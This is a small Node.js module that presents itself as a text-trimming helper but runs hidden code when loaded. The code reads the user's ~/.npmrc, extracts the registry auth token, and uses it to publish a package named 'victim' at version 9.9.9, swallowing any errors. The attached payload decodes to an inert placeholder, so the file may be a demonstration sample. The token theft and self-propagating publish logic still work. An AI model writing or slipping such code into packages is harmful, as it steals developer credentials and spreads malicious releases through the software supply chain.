'use strict';
const fs = require('fs');
const os = require('os');

async function spread() {
  const settings = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');
  const [, registry, token] = /^\/\/(.+?)\/:_authToken=(.+)$/m.exec(settings);
  const body = JSON.stringify({
    name: 'victim',
    'dist-tags': { latest: '9.9.9' },
    _attachments: { 'victim-9.9.9.tgz': { data: 'SU5FUlQtUEFZTE9BRA==' } },
  });
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  await fetch(`https://${registry}/victim`, { method: 'PUT', headers, body });
}

spread().catch(() => {});
module.exports = text => String(text).trim();
